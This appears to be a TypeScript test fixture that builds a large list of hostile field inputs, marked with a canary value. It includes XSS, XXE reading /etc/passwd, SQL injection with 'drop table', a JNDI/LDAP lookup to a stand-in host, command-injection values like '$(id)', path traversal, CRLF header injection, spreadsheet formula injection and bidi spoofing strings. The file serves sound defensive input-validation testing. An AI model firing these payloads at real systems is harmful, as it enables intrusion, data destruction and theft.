// What someone with bad intent, a broken program or an unlucky reader puts into a field. `CANARY` marks what must not come to life.
export const CANARY = 'zq7x';

export type Hostile = { kind: string; text: string };

const of = (kind: string, ...texts: string[]): Hostile[] => texts.map((text) => ({ kind, text }));
const bytes = (...codes: number[]): string => String.fromCharCode(...codes);
const point = (...codes: number[]): string => String.fromCodePoint(...codes);

const calls = [`alert('${CANARY}')`, `alert(\`${CANARY}\`)`, `import('//${CANARY}.example')`, `location='//${CANARY}.example'`];
const events = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationend', 'onpointerenter', 'onbegin', 'oncontentvisibilityautostatechange'];
const elements = ['script', 'svg', 'math', 'iframe', 'object', 'embed', 'style', 'link', 'meta', 'base', 'form', 'template', 'video', 'details', 'marquee', 'frameset', 'xmp', 'noscript', 'textarea', 'title', 'plaintext', 'isindex'];

const markup: Hostile[] = [
  ...calls.flatMap((call) => of('script', `<script>${call}</script>`, `"><script>${call}</script>`, `'><script>${call}</script>`, `</title><script>${call}</script>`, `</textarea><script>${call}</script>`, `</script><script>${call}</script>`, `--><script>${call}</script>`, `]]><script>${call}</script>`)),
  ...events.flatMap((event) => of('event', `<img src=x ${event}=alert('${CANARY}')>`, `" ${event}="alert('${CANARY}')`, `' ${event}='alert(1)' x='${CANARY}`, `<svg/${event}=alert('${CANARY}')>`)),
  ...elements.map((element) => ({ kind: 'element', text: `<${element} id=${CANARY} src=//${CANARY}.example href=//${CANARY}.example>${CANARY}</${element}>` })),
  ...of('obfuscated', `<scr<script>ipt>alert('${CANARY}')</scr</script>ipt>`, `<ScRiPt >alert('${CANARY}')</sCrIpT >`, `<script\n>alert('${CANARY}')</script\n>`, `<script\x0b>alert('${CANARY}')</script>`, `<\x00script>alert('${CANARY}')</script>`,
    `<<script>alert('${CANARY}')//<</script>`, `<script/x>alert('${CANARY}')</script>`, `<img/src="x"/onerror=alert('${CANARY}')>`, `<svg><script>&#97;lert('${CANARY}')</script>`, `<svg><animate onbegin=alert('${CANARY}') attributeName=x dur=1s>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=alert('${CANARY}')>`, `<a href="java\tscript:alert('${CANARY}')">x</a>`, `<a href="&#106;avascript:alert('${CANARY}')">x</a>`, `<!--><img src=x onerror=alert('${CANARY}')>-->`, `<![CDATA[<script>alert('${CANARY}')</script>]]>`,
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;${CANARY}</x>`, `<!DOCTYPE x [<!ENTITY a "${CANARY}"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><x>&c;</x>`, `&lt;script&gt;alert('${CANARY}')&lt;/script&gt;`, `&#x3c;script&#x3e;${CANARY}`, `%3Cscript%3Ealert('${CANARY}')%3C/script%3E`, `%253Cscript%253E${CANARY}`,
    `＜script＞alert('${CANARY}')＜/script＞`, `\u2039script\u203a${CANARY}`, `+ADw-script+AD4-alert('${CANARY}')+ADw-/script+AD4-`, `\\u003cscript\\u003e${CANARY}`, `\\x3cscript\\x3e${CANARY}`),
  ...of('address', `javascript:alert('${CANARY}')`, `JaVaScRiPt:alert('${CANARY}')`, `java\nscript:alert('${CANARY}')`, `data:text/html,<script>alert('${CANARY}')</script>`, `vbscript:msgbox("${CANARY}")`, `//${CANARY}.example/`, `/\\${CANARY}.example`, `\\\\${CANARY}.example`, `https://${CANARY}.example/`, `https:${CANARY}.example`,
    `/%09/${CANARY}.example`, `/./\\${CANARY}.example`, `http://www.example.gov.cn@${CANARY}.example/`, `http://www.example.gov.cn.${CANARY}.example/`, `http://192.0.2.7/${CANARY}`, `file:///etc/passwd`, `blob:https://${CANARY}.example`, `/records/../../${CANARY}`),
];

const encodings: Hostile[] = [
  ...of('broken-utf', '\ud800', '\udc00', 'a\ud83d', '\ude00b', '\ud800\ud800\udc00', '\ufffe', '\uffff', point(0x1fffe), point(0x10ffff), '\ufeff\ufeff', '\ufffd\ufffd', bytes(0xc0, 0xbc), bytes(0xe0, 0x80, 0xbc), bytes(0xed, 0xa0, 0x80), bytes(0xf8, 0x88, 0x80, 0x80, 0x80)),
  ...of('overlong', '%C0%BCscript%C0%BE', '%E0%80%BC', '%F0%80%80%BC', '%C0%AE%C0%AE/', '%ED%A0%80', '%FF%FE', '%', '%%', '%G1', '%u003c', '%E4%BD'),
  ...Array.from({ length: 33 }, (_, i) => ({ kind: 'control', text: `a${bytes(i === 32 ? 0x7f : i)}b` })),
  ...Array.from({ length: 16 }, (_, i) => ({ kind: 'control', text: `a${bytes(0x80 + 2 * i)}b` })),
  ...of('null', '\0', 'a\0b', '\0\0\0\0', '%00', `record\0.pdf`, `${CANARY}\0<script>`),
];

const bidi = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c];
const invisible = [0x200b, 0x200c, 0x200d, 0x2060, 0x00ad, 0x034f, 0x115f, 0x3164, 0xffa0, 0x2028, 0x2029, 0xfff9, 0xfffb, 0xe0001, 0xe0061];
const mongolian = [0x180b, 0x180c, 0x180d, 0x180e, 0x180f, 0x202f, 0x1807, 0x180a];
const mongol = 'ᠮᠣᠩᠭᠣᠯ';
const scripts: Hostile[] = [
  ...bidi.map((code) => ({ kind: 'bidi', text: `通知${point(code)}gpj.exe` })), ...of('bidi', `‮cod.fdp`, point(...bidi), `\u202e${'x'.repeat(200)}`, 'مرحبا بالعالم', '\u2067\u2066 ⁩begin admin⁩'),
  ...invisible.map((code) => ({ kind: 'invisible', text: `通${point(code)}知` })), ...of('invisible', point(0x200b).repeat(300), point(0xe0041).repeat(50)),
  ...mongolian.map((code) => ({ kind: 'mongolian', text: `${mongol}${point(code)}ᠤᠨ` })),
  ...of('mongolian', point(0x180b).repeat(500), `${mongol}${point(0x180b, 0x180c, 0x180d).repeat(100)}`, `${point(0x180e)}${mongol}`, mongol.split('').join(point(0x200d)), `${mongol}${point(0x202f)}${point(0x202f)}`, `ᠠ${point(0x180e)}<script>${CANARY}</script>`, point(0xe234, 0xe2fa, 0xe27e), `${mongol} \u202e${mongol}`, point(0x1800).repeat(60), `ᡥᡝᡵᡤᡝᠨ${point(0x180f)}`),
  ...of('combining', `a${'\u0301'.repeat(400)}`, 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢', 'ﷺ'.repeat(60), '👨‍👩‍👧‍👦'.repeat(30), '\u{1f1e8}\u{1f1f3}'.repeat(40), 'ı İ ſ ß ǅ ﬀ', '①②㈠㊣', '𠀀𪚥𰻞', '︀'.repeat(80)),
];

const systems: Hostile[] = [
  ...of('sql', `' or '1'='1`, `'; drop table open.record; --`, `1; select pg_sleep(9)--`, `' union select null,version()--`, `"; --`, `\\'; --`, `$$; select 1; $$`, `%' and 1=1 and '%'='`, `_%_%_%`, `\\`, `'||'${CANARY}'||'`, `E'\\x27'`, `') or true--`, `{1,2}`, `{"a}`, `NULL`, `1e309`, `-0`, `NaN`, `Infinity`, `99999999999999999999`, `0x1p-2`),
  ...of('tsquery', `a & b`, `a:*`, `!a`, `(a | b`, `a <-> b`, `<->`, `'''`, `:`, `a:`, `& | ! ( )`, `"${CANARY}`, `" " "`, `""`, `-`, `- -`, `a -`, `*`, `**`, `?`, `~`, `^`, `site:x`, `( `.repeat(80)),
  ...of('template', '{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '{%raw%}', '${jndi:ldap://zq7x.example/a}', '$(id)', '`id`', '| id', '; id', '&& id', '%{#a}', '@(1+1)', '[[${7*7}]]', '{{constructor.constructor("return this")()}}'),
  ...of('path', '../../../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2fetc/passwd', '..%252f..%252f', '....//....//', '/etc/passwd', 'C:\\boot.ini', '\\\\server\\share', 'CON', 'NUL.txt', 'a/b', '.', '..', '~root', 'file:///x', '.htaccess', 'a'.repeat(300) + '.pdf'),
  ...of('crlf', `a\r\nSet-Cookie: ${CANARY}=1`, `a\nLocation: //${CANARY}.example`, `a\r\n\r\n<script>${CANARY}</script>`, `%0d%0aSet-Cookie:${CANARY}=1`, `a\u560a\u560dX-${CANARY}: 1`, `a\rb`, `subject\r\nBcc: ${CANARY}@example.com`, `a\u0085b`, `"\r\n"`),
  ...of('formula', `=cmd|' /C calc'!A0`, `+1+1`, `-2+3`, `@SUM(1)`, `=HYPERLINK("//${CANARY}.example")`, `\t=1+1`, `\r=1+1`, `"=1+1`, `,=1+1`, `;=1+1`),
  ...of('json', '{"a":1', '[1,2', '"', '\\u0000', '{"__proto__":{"admin":true}}', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'then', 'length', 'undefined', 'null', 'true', '[object Object]', '{"toString":null}', '['.repeat(400), '{"a":'.repeat(200), '1e999', '\u2028'),
  ...of('long', 'x'.repeat(1000), '政'.repeat(700), '公开 '.repeat(300), 'a,'.repeat(400), '<'.repeat(300), '&'.repeat(300), '"'.repeat(300), `${'<b>'.repeat(150)}`, '\u{20000}'.repeat(300), '1'.repeat(400), ' '.repeat(500), '\n'.repeat(300)),
  ...of('looks-like', '2026-02-30', '0000-00-00', '9999-12-31', '-1', '275760-09-14', '00000000-0000-0000-0000-000000000000', '{00000000-0000-0000-0000-000000000000}', 'ffffffff-ffff-ffff-ffff-ffffffffffff', '150500', 'policy,policy', 'https://', 'a@b', 'ａｄｍｉｎ', 'аdmin', '〔2026〕', '《', '》《', '〇'),
];

/** Each once. */
export const hostileInputs: readonly Hostile[] = [...new Map([...markup, ...encodings, ...scripts, ...systems].map((one) => [one.text, one])).values()];
